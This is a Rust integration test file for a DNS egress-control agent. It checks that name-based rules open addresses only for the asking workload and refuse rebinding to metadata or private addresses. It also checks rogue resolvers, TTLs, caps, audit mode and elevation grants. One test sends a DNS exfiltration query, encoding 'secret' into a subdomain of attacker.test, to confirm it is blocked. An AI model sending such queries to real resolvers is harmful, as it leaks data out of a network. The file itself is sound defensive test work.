//! DNS names (`fqdns` rules) on the real kernel: the workload resolves with
//! the C library against a DNS server the test runs inside its network
//! namespace, the hook sends the query to the agent's proxy, and the
//! address is open for that workload only, from the moment the answer
//! arrives. No query leaves the namespace: the resolvers are on its `lo`.

use std::time::{Duration, Instant};

use tiergate_tests::dns_world::{
    NAMES, RESOLVER, World, ZONE, dns_policy, ends_cleanly, eventually, is_dns,
};
use tiergate_tests::{is_conn, sh, spawn_ready, tg};

#[test]
fn names_open_their_answers_for_the_asking_workload_only() {
    let mut w = World::new("dnsnames");
    let root = w.f.cg_path.clone();
    w.f.start_agent(&dns_policy(&root, "enforce", NAMES));
    w.warm_up("t0/a");

    // Another workload of the same tier, same namespace: its own lookup
    // works at once; an address only `a` resolved stays closed to it.
    assert_eq!(w.f.tcp("t0/b", "198.18.0.10:443"), "EPERM");
    assert_eq!(
        w.resolve_connect("t0/b", "api.example.test", 443),
        "ok 198.18.0.10"
    );
    // Ports and protocols of the rule still apply to a learned address.
    assert_eq!(w.f.tcp("t0/b", "198.18.0.10:80"), "EPERM");
    assert_eq!(
        w.f.probe("t0/b", &["connect", "--udp", "198.18.0.10:443"]),
        ["EPERM"]
    );

    // explain: statically by name, and with the agent, which answer opened
    // an address for this workload.
    let explain = |rel: &str, to: &str, agent: bool| {
        let policy = w.f.dir.join("policy.yaml");
        let addr = format!("127.0.0.1:{}", w.f.agent.as_ref().expect("agent").port);
        let cg = w.f.cg(rel);
        let mut args = vec![
            "policy",
            "explain",
            "--policy",
            policy.to_str().expect("utf-8"),
        ];
        args.extend(["--cgroup", &cg, "--to", to]);
        if agent {
            args.extend(["--agent", addr.as_str()]);
        }
        let (code, out, err) = w.f.tiergate(&args);
        assert_eq!(code, 0, "{err}");
        out
    };
    let out = explain("t0/b", "api.example.test:443", false);
    assert!(out.contains("reason:      fqdn"), "{out}");
    let out = explain("t0/b", "198.18.0.10:443", true);
    assert!(
        out.contains("opened by:   the DNS answer for api.example.test"),
        "{out}"
    );
    let out = explain("t0/c", "198.18.0.10:443", true);
    assert!(out.contains("opened by:   no DNS answer"), "{out}");

    // A name no rule allows: NXDOMAIN from the proxy, never asked upstream.
    let r = w.resolve_connect("t0/a", "other.example.test", 443);
    assert!(r.starts_with("resolve-error"), "{r}");
    assert!(
        !w.queried(&w.log).contains("other.example.test"),
        "a refused name reached the resolver"
    );
    let r = w.resolve_connect("t0/a", "exfil-c2VjcmV0.attacker.test", 443);
    assert!(r.starts_with("resolve-error"), "{r}");
    assert!(
        !w.queried(&w.log).contains("attacker"),
        "an exfiltration query reached the resolver"
    );
    assert_eq!(w.f.tcp("t0/a", "198.18.0.11:443"), "EPERM");

    // CNAME chain: the address at its end opens under the asked name.
    assert_eq!(
        w.resolve_connect("t0/c", "www.example.test", 443),
        "ok 198.18.0.12"
    );

    // Rebinding: an allowed name answering the metadata endpoint or a
    // private address opens nothing; with allowPrivate it may.
    assert_eq!(
        w.resolve_connect("t0/m", "meta.example.test", 443),
        "EPERM 169.254.169.254"
    );
    assert_eq!(
        w.resolve_connect("t0/p", "priv.example.test", 443),
        "EPERM 10.20.0.1"
    );
    assert_eq!(
        w.resolve_connect("t0/v", "vault.example.test", 443),
        "ok 10.20.0.1"
    );

    // DNS over TCP (the C library's use-vc) goes through the proxy too.
    assert_eq!(
        w.probe(
            "t0/t",
            "resolv-tcp.conf",
            &["resolve-connect", "api.example.test", "443"]
        ),
        ["ok 198.18.0.10"]
    );
    assert!(
        w.queried(&w.log).contains("tcp api.example.test"),
        "no TCP query upstream"
    );

    // A workload naming another resolver still gets the policy's resolver:
    // the rogue's answer never reaches it, its address never opens.
    assert_eq!(
        w.probe(
            "t0/r",
            "resolv-rogue.conf",
            &["resolve-connect", "api.example.test", "443"]
        ),
        ["ok 198.18.0.10"]
    );
    assert!(
        w.queried(&w.rogue_log).is_empty(),
        "the rogue resolver was asked"
    );
    assert_eq!(w.f.tcp("t0/r", "198.18.0.99:443"), "EPERM");

    // Only the hook may send to the proxy (a direct send could pose as
    // another workload's slot).
    assert_eq!(
        w.f.probe("t0/a", &["connect", "--udp", "127.0.0.5:15053"]),
        ["EPERM"]
    );
    // A tier without name rules is not redirected: its DNS is plain egress.
    assert!(
        w.probe("locked/x", "resolv.conf", &["resolve", "api.example.test"])[0]
            .starts_with("error")
    );
    // Host workloads are never redirected (the node's own DNS keeps working
    // whatever the proxy does): the host cgroup reaches the rogue directly.
    w.f.known_cgroup("hostsvc");
    assert_eq!(
        w.probe(
            "hostsvc",
            "resolv-rogue.conf",
            &["resolve", "api.example.test"]
        ),
        ["198.18.0.99"]
    );

    // Events: the query with its learned address, the refusal, the
    // connection opened by the name.
    let q = w.f.wait_event("dns event for api.example.test", |e| {
        is_dns(e, "api.example.test") && tg(e)["verdict"] == "allow" && e["query"]["type"] == "A"
    });
    assert_eq!(q["activity_id"], 2);
    assert_eq!(q["rcode"], "NoError");
    assert_eq!(q["query"]["type"], "A");
    assert_eq!(q["dst_endpoint"]["ip"], RESOLVER);
    let t = tg(&q);
    assert_eq!(t["kind"], "dns");
    assert_eq!(t["tier"], "t0");
    assert_eq!(t["matched"][0], "api.example.test");
    assert_eq!(t["addresses"][0]["ip"], "198.18.0.10");
    assert_eq!(t["addresses"][0]["learned"], true);
    assert!(t["commit_us"].as_u64().is_some());
    assert_eq!(t["policy"]["name"], "e2e-dns");
    assert!(
        t["workload"]["cgroup_path"]
            .as_str()
            .unwrap()
            .contains("/t0/")
    );
    let refused =
        w.f.wait_event("dns refusal", |e| is_dns(e, "other.example.test"));
    assert_eq!(refused["rcode"], "NXDomain");
    assert_eq!(refused["disposition"], "Blocked");
    assert_eq!(tg(&refused)["verdict"], "deny");
    assert_eq!(tg(&refused)["reason"], "name-not-allowed");
    let meta = w.f.wait_event("metadata answer", |e| {
        is_dns(e, "meta.example.test") && e["query"]["type"] == "A"
    });
    assert_eq!(tg(&meta)["addresses"][0]["learned"], false);
    assert_eq!(tg(&meta)["addresses"][0]["reason"], "metadata-service");
    let private = w.f.wait_event("private answer", |e| {
        is_dns(e, "priv.example.test") && e["query"]["type"] == "A"
    });
    assert_eq!(tg(&private)["addresses"][0]["reason"], "private-address");
    let conn = w.f.wait_event("connection opened by a name", |e| {
        is_conn(e, "198.18.0.10", 443, "allow") && tg(e)["reason"] == "fqdn"
    });
    assert_eq!(tg(&conn)["fqdn"], "api.example.test");
    // The first name rule decided (index 0 of t0, by content id).
    assert_eq!(tg(&conn)["rule"]["index"], 0);
    assert_eq!(conn["firewall_rule"]["name"], "t0:egress[0]");
    assert!(tg(&conn)["rule"]["uid"].as_str().unwrap().starts_with("r-"));
    w.f.wait_event("forged proxy send", |e| {
        tg(e)["reason"] == "dns-proxy-port" && tg(e)["verdict"] == "deny"
    });
}

/// Polls `f` every 50 ms until it returns true, for at most 5 s.

#[test]
fn reloads_close_dropped_names_and_audit_reports_refusals() {
    let mut w = World::new("dnsreload");
    let root = w.f.cg_path.clone();
    w.f.start_agent(&dns_policy(&root, "enforce", NAMES));
    w.warm_up("t0/a");
    assert_eq!(
        w.resolve_connect("t0/a", "www.example.test", 443),
        "ok 198.18.0.12"
    );

    // The name is dropped: its learned address closes with the flip, the
    // names that stay keep theirs (no new lookup needed).
    w.f.write_policy(&dns_policy(&root, "enforce", r#""api.example.test""#));
    eventually("the dropped name's address closes", || {
        w.f.tcp("t0/a", "198.18.0.12:443") == "EPERM"
    });
    assert_eq!(w.f.tcp("t0/a", "198.18.0.10:443"), "ok");
    let r = w.resolve_connect("t0/a", "www.example.test", 443);
    assert!(r.starts_with("resolve-error"), "{r}");

    // Audit: a name no rule allows is forwarded, and reported as a
    // would-be refusal; the connection to its address as a would-be deny.
    w.f.write_policy(&dns_policy(&root, "audit", r#""api.example.test""#));
    eventually("audit mode forwards refused names", || {
        w.resolve_connect("t0/a", "other.example.test", 443) == "ok 198.18.0.11"
    });
    assert!(w.queried(&w.log).contains("other.example.test"));
    let q = w.f.wait_event("audit-deny query", |e| {
        is_dns(e, "other.example.test")
            && tg(e)["verdict"] == "audit-deny"
            && e["query"]["type"] == "A"
    });
    assert_eq!(q["disposition"], "Allowed");
    assert_eq!(tg(&q)["reason"], "name-not-allowed");
    assert_eq!(tg(&q)["addresses"][0]["learned"], false);
    w.f.wait_event("audit-deny connection", |e| {
        is_conn(e, "198.18.0.11", 443, "audit-deny")
    });
}

#[test]
fn learned_addresses_live_for_the_ttl_within_min_ttl() {
    let mut w = World::new("dnsttl");
    let root = w.f.cg_path.clone();
    // short.example.test answers with TTL 1 s; the floor keeps it 3 s.
    let p = dns_policy(&root, "enforce", NAMES).replace(
        &format!("resolvers: [\"{RESOLVER}\"]"),
        &format!("resolvers: [\"{RESOLVER}\"]\n    minTTL: 3s"),
    );
    w.f.start_agent(&p);
    w.warm_up("t0/a");
    let learned = Instant::now();
    assert_eq!(
        w.resolve_connect("t0/a", "short.example.test", 443),
        "ok 198.18.0.13"
    );
    std::thread::sleep(Duration::from_millis(1500));
    assert!(learned.elapsed() < Duration::from_millis(2800));
    assert_eq!(
        w.f.tcp("t0/a", "198.18.0.13:443"),
        "ok",
        "the floor (minTTL) must hold it open"
    );
    std::thread::sleep(Duration::from_millis(2500));
    assert_eq!(
        w.f.tcp("t0/a", "198.18.0.13:443"),
        "EPERM",
        "expired entries must close"
    );
    // A fresh answer opens it again.
    assert_eq!(
        w.resolve_connect("t0/a", "short.example.test", 443),
        "ok 198.18.0.13"
    );
}

#[test]
fn a_dead_agent_keeps_learned_addresses_and_fails_new_lookups_fast() {
    let mut w = World::new("dnskill");
    let root = w.f.cg_path.clone();
    let p = dns_policy(&root, "enforce", NAMES);
    w.f.start_agent(&p);
    w.warm_up("t0/a");
    w.f.agent.as_mut().expect("agent").kill9();
    w.assert_unserved_fails_fast_and_closed("t0/a");

    // A new agent serves the namespace again (its sandbox is still there).
    w.f.start_agent(&p);
    eventually("a restarted agent serves the namespace", || {
        w.resolve_connect("t0/a", "www.example.test", 443) == "ok 198.18.0.12"
    });
}

/// An agent told to stop (SIGTERM) answers the queries its proxy has
/// taken, writes their records, and ends; lookups begun during the stop
/// fail at once and closed, and so do those after it.
#[test]
fn a_stopping_agent_answers_what_it_took() {
    let mut w = World::new("dnsstop");
    let root = w.f.cg_path.clone();
    let names = format!("{NAMES}, \"slow.example.test\"");
    w.f.start_agent(&dns_policy(&root, "enforce", &names));
    w.warm_up("t0/a");
    let pid = w.f.agent.as_ref().expect("agent").child.id() as i32;
    w.sigterm_answers_what_was_taken(pid);
    let mut agent = w.f.agent.take().expect("agent");
    ends_cleanly(&mut agent);
    w.assert_slow_lookup_reported();
    w.assert_unserved_fails_fast_and_closed("t0/a");
}

#[test]
fn caps_close_the_oldest_addresses_and_say_so() {
    let mut w = World::new("dnscap");
    let root = w.f.cg_path.clone();
    let names = format!("{NAMES}, \"multi.example.test\"");
    w.f.start_agent_with(
        &dns_policy(&root, "enforce", &names),
        &["--dns-max-per-name", "2"],
    );
    w.warm_up("t0/a");
    // Three addresses in one answer, two may stay open for this name.
    let got = w.probe("t0/a", "resolv.conf", &["resolve", "multi.example.test"]);
    assert_eq!(got[0].split(' ').count(), 3, "{got:?}");
    let open: Vec<String> = ["198.18.0.21", "198.18.0.22", "198.18.0.23"]
        .iter()
        .map(|a| w.f.tcp("t0/a", &format!("{a}:443")))
        .collect();
    assert_eq!(open.iter().filter(|r| *r == "ok").count(), 2, "{open:?}");
    assert_eq!(open.iter().filter(|r| *r == "EPERM").count(), 1, "{open:?}");
    let e = w.f.wait_event("a DNS record naming the cap", |e| {
        is_dns(e, "multi.example.test") && tg(e)["cap_hit"] == "name"
    });
    assert_eq!(tg(&e)["evicted"], 1);
    // The other names of the workload are not touched by this name's cap.
    assert_eq!(w.f.tcp("t0/a", "198.18.0.10:443"), "ok");
    let agent = w.f.agent.as_ref().expect("agent");
    eventually("the eviction metric", || {
        agent
            .metric("tiergate_dns_evicted{cap=\"name\"}")
            .is_some_and(|v| v >= 1.0)
    });
}

#[test]
fn every_fresh_answer_is_in_force_before_the_application_sees_it() {
    // 10,000 names, each answering an address of its own: every lookup
    // teaches a new address and the connect follows at once, so a single
    // answer released before its allow is committed would show as EPERM.
    const N: u32 = 10_000;
    let mut w = World::new("dnsrace");
    let mut zone = String::from(ZONE);
    for i in 0..N {
        zone.push_str(&format!(
            "n{i}.race.test 30 A 198.18.{}.{}\n",
            4 + i / 250,
            1 + i % 250
        ));
    }
    std::fs::write(w.f.dir.join("race.zone"), zone).expect("zone");
    let ns = w.f.netns.clone();
    sh(
        "ip",
        &["-n", &ns, "addr", "add", "10.53.0.54/32", "dev", "lo"],
    );
    let (zone_path, log) = (w.f.dir.join("race.zone"), w.f.dir.join("race.log"));
    w.children.push(spawn_ready(&[
        "--netns",
        &ns,
        "dns-serve",
        "10.53.0.54:53",
        zone_path.to_str().expect("utf-8"),
        log.to_str().expect("utf-8"),
    ]));
    std::fs::write(
        w.f.dir.join("resolv-race.conf"),
        "nameserver 10.53.0.54\noptions timeout:2 attempts:2\n",
    )
    .expect("resolv");
    let root = w.f.cg_path.clone();
    let p = dns_policy(&root, "enforce", &format!("{NAMES}, \"**.race.test\"")).replace(
        &format!("resolvers: [\"{RESOLVER}\"]"),
        "resolvers: [\"10.53.0.54\", \"10.53.0.53\"]",
    );
    w.f.start_agent(&p);
    w.warm_up("t0/a");
    let out = w.probe(
        "t0/race",
        "resolv-race.conf",
        &[
            "resolve-connect-seq",
            "0",
            &N.to_string(),
            ".race.test",
            "443",
        ],
    );
    assert_eq!(out, [format!("ok {N} eperm 0 other 0")]);
}

/// Queries to an IPv6 resolver address, and to an IPv4-mapped one, are
/// intercepted like IPv4 ones, over UDP and TCP: the hook sends them to the
/// proxy (as `::ffff:127.<slot>`), and the C library accepts the answer
/// because the recvmsg6/getpeername6 hooks show it the resolver it asked.
/// No server listens on the IPv6 address: an answer can only come from the
/// proxy.
#[test]
fn ipv6_and_mapped_resolver_addresses_are_intercepted_too() {
    let mut w = World::new("dnsv6");
    let root = w.f.cg_path.clone();
    let policy = dns_policy(&root, "enforce", NAMES).replace(
        &format!("resolvers: [\"{RESOLVER}\"]"),
        &format!("resolvers: [\"{RESOLVER}\", \"fd00:53::53\"]"),
    );
    w.f.start_agent(&policy);
    w.warm_up("t0/a");
    let conf = |file: &str, text: &str| std::fs::write(w.f.dir.join(file), text).expect("write");
    conf(
        "resolv6.conf",
        "nameserver fd00:53::53\noptions timeout:1 attempts:1\n",
    );
    conf(
        "resolv6-tcp.conf",
        "nameserver fd00:53::53\noptions use-vc timeout:1 attempts:1\n",
    );
    conf(
        "resolv-mapped.conf",
        &format!("nameserver ::ffff:{RESOLVER}\noptions timeout:1 attempts:1\n"),
    );
    for (i, file) in ["resolv6.conf", "resolv6-tcp.conf", "resolv-mapped.conf"]
        .into_iter()
        .enumerate()
    {
        let rel = format!("t0/v{i}");
        let got = w.probe(&rel, file, &["resolve-connect", "api.example.test", "443"]);
        assert_eq!(got, ["ok 198.18.0.10"], "{file}");
        // A name no rule allows: NXDOMAIN from the proxy, never forwarded.
        let got = w.probe(&rel, file, &["resolve", "other.example.test"]);
        assert!(got[0].starts_with("error"), "{file}: {got:?}");
    }
    assert!(
        !w.queried(&w.log).contains("other.example.test"),
        "a refused name reached the resolver"
    );
    let e = w.f.wait_event("refused over IPv6", |e| {
        is_dns(e, "other.example.test") && tg(e)["verdict"] == "deny"
    });
    assert_eq!(e["rcode"], "NXDomain");
}

/// Under an elevation grant the proxy judges queries by the granted tier's
/// names, as the kernel judges connections by its rules: a name only the
/// granted tier allows resolves and opens, its query record carries the
/// grant; at revoke the name is refused again and its address closes.
#[test]
fn an_elevation_grant_brings_the_granted_tiers_names() {
    let mut w = World::new("dnselev");
    let root = w.f.cg_path.clone();
    let policy = dns_policy(&root, "enforce", r#""api.example.test""#)
        .replace(
            "  tiers:\n",
            "  elevation:\n    - {from: t0, to: t2, maxDuration: 1h}\n  tiers:\n    - name: t2\n      egress:\n        - fqdns: [\"api.example.test\", \"other.example.test\"]\n          ports: [\"443\"]\n",
        );
    w.f.start_agent(&policy);
    w.warm_up("t0/a");
    let r = w.resolve_connect("t0/a", "other.example.test", 443);
    assert!(r.starts_with("resolve-error"), "t0 does not allow it: {r}");

    let cg = w.f.cg("t0/a");
    let elevate = |args: &[&str]| {
        let (code, v, err) = w.f.elevate(args);
        assert_eq!(code, 0, "{err}");
        v
    };
    let g = elevate(&[
        "--cgroup", &cg, "--to", "t2", "--for", "10m", "--ticket", "INC-9", "--reason", "fetch",
    ]);
    let id = g["grant"]["id"].as_str().unwrap().to_string();
    assert_eq!(
        w.resolve_connect("t0/a", "other.example.test", 443),
        "ok 198.18.0.11"
    );
    let q = w.f.wait_event("query under the grant", |e| {
        is_dns(e, "other.example.test") && tg(e)["verdict"] == "allow"
    });
    assert_eq!(tg(&q)["tier"], "t2");
    assert_eq!(tg(&q)["elevation"]["id"], id.as_str());
    assert_eq!(tg(&q)["elevation"]["ticket"], "INC-9");
    let refused = w.f.wait_event("query before the grant", |e| {
        is_dns(e, "other.example.test") && tg(e)["verdict"] == "deny"
    });
    assert!(tg(&refused).get("elevation").is_none(), "{refused}");

    elevate(&["revoke", &id]);
    eventually("the granted tier's address closes", || {
        w.f.tcp("t0/a", "198.18.0.11:443") == "EPERM"
    });
    let r = w.resolve_connect("t0/a", "other.example.test", 443);
    assert!(r.starts_with("resolve-error"), "after the revoke: {r}");
    assert_eq!(
        w.resolve_connect("t0/a", "api.example.test", 443),
        "ok 198.18.0.10"
    );
}

/// `spec.dns.scope: tier`: an answer opens its addresses for every
/// workload of the asking one's tier (a shared resolver in the tier), not
/// for other tiers; the default (`workload`) is the asker alone (tested
/// above).
#[test]
fn tier_scope_opens_an_answer_for_the_whole_tier() {
    let mut w = World::new("dnsscope");
    let root = w.f.cg_path.clone();
    let p = dns_policy(&root, "enforce", NAMES).replace(
        &format!("resolvers: [\"{RESOLVER}\"]"),
        &format!("resolvers: [\"{RESOLVER}\"]\n    scope: tier"),
    );
    w.f.cgroup("t0/b");
    w.f.cgroup("locked/x");
    w.f.start_agent(&p);
    w.warm_up("t0/a");
    assert_eq!(
        w.resolve_connect("t0/a", "www.example.test", 443),
        "ok 198.18.0.12"
    );
    // t0/b never asked; the tier's answer opened it. Not for another tier,
    // and still only on the rule's ports.
    assert_eq!(w.f.tcp("t0/b", "198.18.0.12:443"), "ok");
    assert_eq!(w.f.tcp("t0/b", "198.18.0.12:80"), "EPERM");
    assert_eq!(w.f.tcp("locked/x", "198.18.0.12:443"), "EPERM");
}
